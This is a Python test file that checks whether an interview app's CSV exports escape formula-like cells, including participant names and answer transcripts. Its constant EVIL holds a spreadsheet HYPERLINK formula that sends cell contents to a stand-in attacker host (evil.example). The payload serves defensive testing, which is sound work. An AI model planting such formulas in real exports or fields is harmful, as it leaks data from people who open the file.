"""Every CSV export escapes what a spreadsheet would run as a formula (one writer: csvout)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from report_support import seed_report
from sqlalchemy import select
from web_support import make_settings

from interviewer import csvout, reports
from interviewer.store.db import session_scope
from interviewer.store.models import Answer
from interviewer.store.recordings import Recordings

EVIL = '=HYPERLINK("https://evil.example/?leak="&A1,"click")'


def test_cell_escapes_formula_starts_only() -> None:
    for text in (EVIL, "+1", "-2+3", "@SUM(A1)", "\tx", "\rx"):
        assert csvout.cell(text) == "'" + text
    for value in ("Ada", "", "a=b", 0.5, -1, None):
        assert csvout.cell(value) == value
    buffer = io.StringIO()
    csvout.Writer(buffer).writerows([[EVIL, -1]])
    csvout.DictWriter(buffer, fieldnames=["a"]).writerows([{"a": EVIL}])
    assert list(csv.reader(io.StringIO(buffer.getvalue()))) == [["'" + EVIL, "-1"], ["'" + EVIL]]


def test_report_csv_escapes_names_and_transcripts(tmp_path: Path) -> None:
    settings = make_settings(tmp_path)
    seeded = seed_report(settings, name=EVIL)
    with session_scope(seeded.seeded.engine, write=True) as s:
        for answer in s.scalars(select(Answer).where(Answer.interview_id == seeded.interview_id)):
            answer.transcript = EVIL
    with session_scope(seeded.seeded.engine) as s:
        report = reports.build_report(s, Recordings(settings.recordings_dir), seeded.interview_id)
    text = reports.report_csv(report)
    rows = list(csv.DictReader(io.StringIO(text)))
    head = rows[0]
    assert head["record"] == "interview" and head["text"].startswith("'" + EVIL)
    answers = [r for r in rows if r["record"] == "answer"]
    assert answers and all(r["text"] == "'" + EVIL for r in answers)
    assert not any(value.startswith("=") for row in rows for value in row.values() if value)
